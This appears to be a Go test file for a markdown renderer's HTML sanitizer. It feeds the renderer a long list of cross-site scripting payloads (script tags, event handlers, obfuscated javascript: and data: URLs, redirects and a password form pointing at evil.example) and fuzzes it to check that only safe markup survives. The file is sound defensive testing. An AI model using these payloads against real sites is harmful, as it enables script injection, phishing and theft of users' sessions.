package markdown

import (
	"bytes"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"
)

// attacks are texts that must show as text, or not at all.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<style>body{background:url(javascript:alert(1))}</style>`,
	`<link rel=stylesheet href=//evil.example>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<base href="https://evil.example/">`,
	`<form action="https://evil.example"><input name=password><button>Log in</button></form>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<div style="position:fixed;inset:0">x</div>`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea></textarea><img src=x onerror=alert(1)>`,
	`</pre></div></main></body><script>alert(1)</script>`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	"[x](java\tscript:alert(1))",
	"[x](<java\nscript:alert(1)>)",
	`[x](javascript&colon;alert(1))`,
	`[x](&#106;avascript:alert(1))`,
	`[x](\javascript:alert(1))`,
	`[x](%6aavascript:alert(1))`,
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](file:///etc/passwd)`,
	`[x](blob:https://example.com/1)`,
	`[x](https:javascript:alert(1))`,
	`[x](https://example.com "\" onmouseover=alert(1) \"")`,
	`[x](https://example.com/"onmouseover="alert(1))`,
	`[x][1]` + "\n\n" + `[1]: javascript:alert(1) "x"`,
	`[x](//evil.example)`, `[x](/\evil.example)`, `[x](/\\evil.example)`,
	`[x](</	/evil.example>)`, `[x](/&#47;evil.example)`,
	`[x](/&Tab;/evil.example)`, `[x](/&bsol;evil.example)`, `[x](&#9;//evil.example)`, `[x](#"onclick="alert(1))`,
	`[x](/p/"onclick="alert(1))`, `[x](?next=//evil.example)`, `[x](../logout)`,
	"# main\n# comments\n# <img id=x>\n# constructor\n# text-a\n# A\n# a\n# a-1\n# a",
	"[x](#main) [y](#fn:1) a[^1]\n\n[^1]: <script>alert(1)</script>\n\n# fn:1\n# fnref:1",
	"<!-- <script>alert(1)</script>", "<!-- --><script>alert(1)</script>", "a <!--><script>alert(1)</script>-->",
	"[^<script>alert(1)</script>] x\n\n[^<script>alert(1)</script>]: y",
	"```html\n<script>alert(1)</script>\n<p onclick=\"x\">\n```", "```js\n\"</code></pre><script>alert(1)</script>\n```",
	"- [ ] <input>\n- [x] [a](javascript:x)",
	`<javascript:alert(1)>`,
	`<data:text/html,x>`,
	`![x](javascript:alert(1))`,
	`![x](data:image/svg+xml,<svg/onload=alert(1)>)`,
	`![x" onerror="alert(1)](https://example.com/x.png)`,
	`![x](https://example.com/x.png"onerror="alert(1))`,
	"```\"><script>alert(1)</script>\nx\n```",
	"```js\" onmouseover=\"alert(1)\nx\n```",
	"`<script>alert(1)</script>`",
	"    <script>alert(1)</script>",
	"|<script>|<img src=x onerror=y>|\n|-|-|\n|[x](javascript:y)|<b onclick=z>|",
	`# <script>alert(1)</script> {onclick=alert(1)}`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&#60;script&#62;alert(1)&#60;/script&#62;`,
	"<scr\x00ipt>alert(1)</script>",
	"\xff<script>\xfe",
	`[<img src=x onerror=alert(1)>](https://example.com)`,
	`http://example.com/"><script>alert(1)</script>`,
	`www.example.com/'onclick='alert(1)`,
	`"><script>alert(1)</script>@example.com`,
	`<figure onclick=alert(1)><img src=x onerror=alert(1)><figcaption>x</figcaption></figure>`,
	`<h2 id="text-a">x<a class="anchor" href="#text-a" tabindex="0" aria-hidden="true">x</a></h2>`,
	`![x](https://example.com/x.png "</figcaption><script>alert(1)</script>")`,
	`![x](https://example.com/x.png "&lt;script&gt;alert(1)&lt;/script&gt; \" onload=alert(1)")`,
	`![x](javascript:alert(1) "<script>alert(1)</script>")`,
	"# \"><script>alert(1)</script>\n# ' onclick=alert(1)",
}

func TestAttacksShowAsText(t *testing.T) {
	r := NewRenderer()
	for _, content := range attacks {
		t.Run(content, func(t *testing.T) {
			for _, o := range []Options{{}, ofPost} {
				rendered := string(r.render(content, o).HTML)
				checkSafe(t, rendered)
				if strings.Contains(content, "<script>alert(1)") && strings.Contains(rendered, "<script") {
					t.Errorf("a script is left in %s", rendered)
				}
			}
		})
	}
}

// TestPolicyAlone shows that the second defense holds without the first.
func TestPolicyAlone(t *testing.T) {
	policy := newPolicy()
	for _, content := range append(slices.Clone(attacks),
		`<p id="header" class="error" onclick="x">a</p>`, `<h2 id="main">x</h2>`, `<h2 id="text-" class="k">x</h2>`,
		`<h2 id="text-a b">x</h2>`, `<li id="text-a">x</li>`, `<sup id="text-fn:x">x</sup>`, `<span class="alert">x</span>`,
		`<span class="k alert" id="text-a">x</span>`, `<div class="text" role="alert">x</div>`, `<pre tabindex="1">x</pre>`,
		`<a href="//evil.example">x</a>`, `<a href="/\evil.example">x</a>`, `<a href="/&#9;/evil.example">x</a>`,
		`<a href="x.html">x</a>`, `<a href="#main">x</a>`,
		`<a class="skip" role="button" href="/">x</a>`, `<li class="k">x</li>`,
		`<img src="http://example.com/x.png">`,
		`<img src="//example.com/x.png">`,
		`<a href="/logout" rel="opener" target="_blank">x</a>`,
		`<code class="language-x y">x</code>`,
		`<h1 id=x>x</h1>`, `<h2 id="text-a" tabindex="-1" aria-hidden="true" class="anchor">x</h2>`,
		`<a class="anchor k" tabindex="0" aria-hidden="false" aria-label="x" href="#text-a">x</a>`,
		`<figure class="k" id="text-a" aria-hidden="true"><figcaption id="text-b" style="x">x</figcaption></figure>`,
	) {
		checkSafe(t, policy.Sanitize(content))
	}
}

// checkSafe reads HTML as a browser does, and fails if it has more than what is harmless.
func checkSafe(t *testing.T, rendered string) {
	t.Helper()
	allowed := map[string][]string{
		"a": {"href", "title", "rel", "class", "role", "tabindex", "aria-hidden"}, "img": {"src", "alt", "title", "loading"},
		"code": {"class"}, "ol": {"start"}, "th": {"class"}, "td": {"class"}, "table": {"tabindex"}, "pre": {"tabindex"},
		"span": {"class"}, "li": {"class", "id"}, "sup": {"id"}, "div": {"class", "role"},
		"h2": {"id"}, "h3": {"id"}, "h4": {"id"}, "h5": {"id"}, "h6": {"id"},
	}
	for _, name := range strings.Fields("p figure figcaption br hr blockquote ul em strong del thead tbody tr") {
		allowed[name] = nil
	}
	ids := map[string]bool{}
	tokens := html.NewTokenizer(strings.NewReader(rendered))
	for {
		switch kind := tokens.Next(); kind {
		case html.ErrorToken:
			return
		case html.TextToken:
		case html.StartTagToken, html.EndTagToken, html.SelfClosingTagToken:
			element := tokens.Token()
			checkElement(t, element, allowed)
			for _, attribute := range element.Attr {
				if attribute.Key == "id" && ids[attribute.Val] {
					t.Errorf("two elements have the id %s", attribute.Val)
				}
				ids[attribute.Val] = ids[attribute.Val] || attribute.Key == "id"
			}
		default:
			t.Errorf("%s has the token %v", rendered, tokens.Token())
		}
	}
}

// knownClasses are the classes that the style sheet has for texts. ownPath matches what every browser takes as a path
// of this site.
var (
	knownClasses = regexp.MustCompile(
		`^(language-[\w+#.-]{1,40}|k|nf|s|m|c|gd|gi|align-(left|center|right)|task|anchor|footnotes|footnote-(ref|backref))$`)
	ownPath = regexp.MustCompile(`^/([^/\\\s][^\\\s]*)?$`)
)

func checkElement(t *testing.T, element html.Token, allowed map[string][]string) {
	t.Helper()
	attributes, ok := allowed[element.Data]
	if !ok {
		t.Errorf("the element %v is not allowed", element)
	}
	for _, attribute := range element.Attr {
		if !slices.Contains(attributes, attribute.Key) {
			t.Errorf("the attribute %s of %v is not allowed", attribute.Key, element)
		}
		var schemes []string
		switch attribute.Key {
		case "id":
			if !strings.HasPrefix(attribute.Val, idPrefix) {
				t.Errorf("%v may have the id of something else", element)
			}
			continue
		case "class":
			if !knownClasses.MatchString(attribute.Val) {
				t.Errorf("the class of %v is not known", element)
			}
			continue
		case "tabindex", "aria-hidden", "rel": // a link that nothing reads aloud is not reached by the keyboard either
			known := map[string]string{"tabindex": "0", "rel": linkRelations[false] + "|" + linkRelations[true]}
			if element.Data == "a" {
				known["tabindex"], known["aria-hidden"] = "-1", "true"
			}
			if !slices.Contains(strings.Split(known[attribute.Key], "|"), attribute.Val) {
				t.Errorf("the attribute %v of %v is not allowed", attribute, element)
			}
			continue
		case "href":
			if strings.HasPrefix(attribute.Val, "#") || ownPath.MatchString(attribute.Val) {
				continue
			}
			schemes = []string{"http", "https", "mailto"}
		case "src":
			schemes = []string{"https"}
		default:
			continue
		}
		if u, err := url.Parse(attribute.Val); err != nil || !slices.Contains(schemes, u.Scheme) {
			t.Errorf("the address of %v is not allowed", element)
		}
	}
}

// FuzzRender looks for texts whose HTML or excerpt is not what Render and Excerpt promise.
func FuzzRender(f *testing.F) {
	for _, content := range attacks {
		f.Add(content)
	}
	for _, content := range hostile(2_000) {
		f.Add(content)
	}
	r := NewRenderer()
	f.Fuzz(func(t *testing.T, content string) {
		checkSafe(t, string(r.render(content, Options{}).HTML))
		rendered := string(r.render(content, ofPost).HTML)
		checkSafe(t, rendered)
		if len(rendered) > max(MaxHTML, 6*len(content)+16) {
			t.Errorf("%d bytes became %d", len(content), len(rendered))
		}
		again := string(r.policy.SanitizeBytes([]byte(rendered)))
		if strings.Count(again, "<") != strings.Count(rendered, "<") {
			t.Errorf("the policy removes more from its own result: %q becomes %q", rendered, again)
		}
		if len(bytes.TrimSpace([]byte(rendered))) > 0 && !utf8.ValidString(rendered) && utf8.ValidString(content) {
			t.Errorf("%q is not UTF-8", rendered)
		}
		excerpt := r.Excerpt(content, 50)
		if n := utf8.RuneCountInString(excerpt); n > 50 || strings.ContainsAny(excerpt, "\n\r\t") {
			t.Errorf("the excerpt %q has %d characters", excerpt, n)
		}
	})
}
